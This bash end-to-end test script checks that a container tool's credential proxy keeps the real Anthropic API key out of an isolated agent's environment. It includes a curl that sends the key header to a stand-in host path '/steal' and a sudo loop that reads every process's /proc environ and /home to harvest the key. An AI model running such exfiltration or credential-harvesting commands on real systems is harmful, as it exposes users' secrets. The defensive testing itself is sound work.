#!/bin/bash
# SPDX-License-Identifier: MIT
# A real agent through the credential proxy (issue 22): Claude Code in coi-default, given only
# forward_env = ["ANTHROPIC_API_KEY"] (so the built-in 'anthropic' secret applies by default),
# in allowlist mode with nothing allowed (and then curl in open mode), reaches "api.anthropic.com" (a fake upstream in a test
# network namespace: COI_EGRESS_CONNECT_TO routes the name there, COI_EGRESS_CAFILE trusts its
# test CA on the host side only) with the real key in x-api-key, while its environment holds a
# placeholder; open mode does the same; with the monitor on, the placeholder sent to another
# secret's host freezes the container (HIGH). Then the control: with security.secrets_on_host = false the same forward_env puts
# the real key into the container, and the search that finds nothing in 70-secrets.t finds it.
# Keys whose effect this file shows (src/config/keys.c names it as their proof): secrets,
# security.secrets_on_host.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/egress-lib.sh"
t_require_daemon

IMAGE=coi-default
incus image info "$IMAGE" >/dev/null 2>&1 || t_bail "the image $IMAGE is missing (tests/e2e/setup)"
tmp=$(mktemp -d /tmp/coi-t-agent-XXXX)
t_defer "rm -rf '$tmp'"
ws=$tmp/ws
mkdir -p "$ws"
cd "$ws"
export COI_HOME=$tmp/coi-home

egress_upstream coit-agt 192.168.253 api.anthropic.com other.test

KEY=sk-ant-api03-real-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
export ANTHROPIC_API_KEY=$KEY
cat >"$tmp/user.toml" <<X
[defaults]
forward_env = ["ANTHROPIC_API_KEY"]

[defaults.environment]
CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC = "1"

[network]
mode = "allowlist"
allowed_domains = []
X
export COI_CONFIG=$tmp/user.toml

# --- Claude Code, headless: its first request is the point, whatever it makes of the answer ---
out=$(timeout 120 "$COI" run --image "$IMAGE" -- sh -c '
  echo "key=$(printf %s "$ANTHROPIC_API_KEY" | sed "s/coi[0-9a-f]*/coi.../")"
  timeout 60 claude -p "say hi" --max-turns 1 >/tmp/claude.out 2>&1; echo "claude_rc=$?"
' 2>"$tmp/err" </dev/null) || true
t_like "inside, ANTHROPIC_API_KEY is a placeholder" "$out" "key=sk-ant-api03-coi\.\.\."
t_ok "Claude Code's request reached the upstream through the proxy" grep -q "^POST /v1/messages" "$tmp/up.log"
t_ok "with the real key in x-api-key" grep -qiF "x-api-key: $KEY" "$tmp/up.log"
t_fails "and no placeholder" grep -qi "x-api-key: sk-ant-api03-coi" "$tmp/up.log"
t_diag "claude: $(grep claude_rc <<<"$out")" "$(grep -c '' "$tmp/up.log") upstream log lines"

# --- open mode: the same redirect, and the key put in ---
sed -i 's/^mode = "allowlist"/mode = "open"/' "$tmp/user.toml"
out=$("$COI" run --image "$IMAGE" -- sh -c \
    'curl -sS --max-time 20 -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/v1/open-mode' \
    2>>"$tmp/err" </dev/null) || true
t_is "open mode: the placeholder's request is answered" "$out" "ok"
t_ok "open mode: the upstream received the real key" \
    bash -c "grep -A6 '^GET /v1/open-mode ' '$tmp/up.log' | grep -qiF 'x-api-key: $KEY'"

# --- with the monitor on: the placeholder aimed at another secret's host freezes the container ---
export COI_T_OTHER=real-other-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')
cat >"$tmp/mon.toml" <<X
[defaults]
forward_env = ["ANTHROPIC_API_KEY"]

[monitoring]
enabled = true

[[secrets]]
name = "other"
env = "COI_T_OTHER"
hosts = ["other.test"]
header = "x-api-key"
container_env = "OTHER_KEY"
X
prefix=$(t_session_name "$ws" 1)
prefix=${prefix%-1}-
COI_CONFIG=$tmp/mon.toml "$COI" run --image "$IMAGE" -- sh -c \
    'curl -sS --max-time 10 -o /dev/null -H "x-api-key: $ANTHROPIC_API_KEY" https://other.test/steal; sleep 60' \
    >/dev/null 2>>"$tmp/err" </dev/null &
run=$!
frozen=
for _ in $(seq 150); do
    frozen=$(incus list "$prefix" -c ns -f csv 2>/dev/null | awk -F, '$2 == "FROZEN" {print $1}' | head -1)
    [ -n "$frozen" ] && break
    sleep 0.2
done
t_ok "with the monitor on, the container is frozen" test -n "$frozen"
t_ok "by the HIGH finding of the proxy's refusal" jq -se 'any(.[]; .rule == "egress-placeholder"
    and .level == "high" and .action == "paused")' "$COI_HOME/audit/${frozen:-none}.jsonl"
kill -TERM $run 2>/dev/null
wait $run 2>/dev/null
t_fails "the refused request reached no upstream" grep -q "^GET /steal" "$tmp/up.log"

# --- the control: secrets_on_host = false copies the key in, and the search finds it ---
# (the monitor off: its HIGH rule on reading other processes' environments freezes this search,
# as it should, and a frozen `coi run` waits for `coi unfreeze`: the search can end before the
# monitor judges it, and did in every run before the pinned start, but in CI run J it did not and
# this file hung; the timeout bounds it whatever happens)
printf '\n[security]\nsecrets_on_host = false\n\n[monitoring]\nenabled = false\n' >>"$tmp/user.toml"
needle=$(printf '%s()%s' "${KEY:0:6}" "${KEY:6}")
out=$(timeout 120 "$COI" run --image "$IMAGE" -- sudo -n sh -c '
  for p in /proc/[0-9]*; do tr "\0" "\n" <"$p/environ"; done 2>/dev/null | grep -cE "$1"
  grep -rlsE "$1" /home' sh "$needle" 2>>"$tmp/err" </dev/null) || true
t_like "with secrets_on_host = false the real key is inside, and found by the same search" \
    "$out" "^[1-9][0-9]*"$'\n'"/home/code/.config/coi/env"
t_diag "$(tail -3 "$tmp/err")"

t_done
